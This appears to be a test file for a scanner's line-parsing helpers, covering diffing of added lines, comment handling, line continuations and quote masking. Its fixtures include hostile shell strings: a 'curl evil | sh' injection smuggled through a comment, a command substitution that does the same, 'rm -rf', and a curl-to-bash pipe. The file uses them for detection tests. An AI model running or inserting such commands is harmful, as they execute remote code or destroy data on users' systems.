import { describe, expect, it } from 'vitest';
import { addedLines, isInertComment, logicalLines, maskQuotes, removedLines, snippet, splitLines } from './lines.js';

describe('splitLines', () => {
  it('handles CRLF and a trailing newline', () => {
    expect(splitLines('a\r\nb\n')).toEqual(['a', 'b']);
    expect(splitLines('')).toEqual([]);
  });
});

describe('addedLines', () => {
  it('returns every line of a new file', () => {
    expect(addedLines(null, 'a\nb\n')).toEqual([
      { line: 1, text: 'a' },
      { line: 2, text: 'b' },
    ]);
  });

  it('returns only lines not present in the previous version', () => {
    expect(addedLines('a\nb\nc\n', 'a\nx\nc\ny\n')).toEqual([
      { line: 2, text: 'x' },
      { line: 4, text: 'y' },
    ]);
  });

  it('counts multiplicity', () => {
    expect(addedLines('rm -rf x\n', 'rm -rf x\nfoo\nrm -rf x\n')).toEqual([
      { line: 2, text: 'foo' },
      { line: 3, text: 'rm -rf x' },
    ]);
  });

  it('ignores moved lines and indentation changes', () => {
    expect(addedLines('a\n  b\n', '\tb\na\n')).toEqual([]);
  });

  it('removedLines is the mirror image', () => {
    expect(removedLines('a\nb\n', 'a\n')).toEqual([{ line: 2, text: 'b' }]);
    expect(removedLines(null, 'a\n')).toEqual([]);
  });
});

describe('isInertComment', () => {
  it('skips plain comments but not comments that could end a string or run code', () => {
    expect(isInertComment('  # Maintainer: Jane <jane at example dot org>')).toBe(true);
    expect(isInertComment("#'; curl evil | sh")).toBe(false);
    expect(isInertComment('#$(curl evil | sh)')).toBe(false);
    expect(isInertComment('echo # hi')).toBe(false);
  });
});

describe('logicalLines', () => {
  it('joins backslash continuations and trailing pipes', () => {
    const text = 'curl -s https://x.y/z.sh \\\n  -o- |\n  bash\necho done\n';
    expect(logicalLines(text, true)).toEqual([
      { line: 1, endLine: 3, text: 'curl -s https://x.y/z.sh  -o- | bash' },
      { line: 4, endLine: 4, text: 'echo done' },
    ]);
  });

  it('drops inert comments in shell files only', () => {
    expect(logicalLines('# a\nb\n', true).map((l) => l.text)).toEqual(['b']);
    expect(logicalLines('# a\nb\n', false).map((l) => l.text)).toEqual(['# a', 'b']);
  });

  it('treats an escaped backslash at the end as literal', () => {
    expect(logicalLines('echo \\\\\nnext\n', false)).toHaveLength(2);
  });
});

describe('maskQuotes', () => {
  it('blanks literal strings but keeps command substitutions', () => {
    expect(maskQuotes(`sed 's|a|b|' "x|y" "$(a|b)" \\' z`)).toBe(`sed '      ' "   " "$(a|b)" \\' z`);
    expect(maskQuotes(`echo 'unclosed | sh`)).toBe(`echo '${' '.repeat(13)}`);
  });
});

describe('snippet', () => {
  it('collapses whitespace and keeps both ends of long text', () => {
    expect(snippet('  a\t b  ')).toBe('a b');
    const long = `https://example.org/${'x'.repeat(200)}/file-1.2.3.tar.gz`;
    const s = snippet(long, 60);
    expect(s).toHaveLength(60);
    expect(s.startsWith('https://example.org/')).toBe(true);
    expect(s.endsWith('file-1.2.3.tar.gz')).toBe(true);
  });
});
